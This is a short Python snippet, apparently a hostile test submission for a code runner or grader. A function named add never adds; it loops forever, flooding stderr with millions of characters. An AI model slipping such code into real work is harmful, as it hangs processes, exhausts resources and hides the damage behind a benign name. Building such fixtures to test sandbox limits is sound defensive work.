import os, sys
def add(a, b):
    while True: sys.stderr.write('x' * 10 ** 6); os.write(2, b'x' * 10 ** 6)
